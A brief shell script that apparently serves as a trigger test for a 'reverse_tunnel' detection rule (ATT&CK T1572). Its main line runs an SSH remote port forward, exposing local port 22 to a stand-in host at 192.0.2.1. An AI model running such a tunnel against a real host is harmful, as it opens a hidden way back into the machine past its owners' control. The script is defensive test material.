#!/bin/sh
# technique: T1572 Protocol Tunneling
# rule: reverse_tunnel
# Opens a way back in through SSH; nobody answers. Without ssh, a harmless program has its name.
[ -d /home/worker/.ssh ] || exit 77 # not a scratch root
mkdir -p /tmp/bin
command -v ssh >/dev/null || cp /bin/true /tmp/bin/ssh
PATH=$PATH:/tmp/bin
timeout 3 ssh -f -N -o BatchMode=yes -o ConnectTimeout=1 -R 2222:127.0.0.1:22 x@192.0.2.1 2>/dev/null || true
exit 0
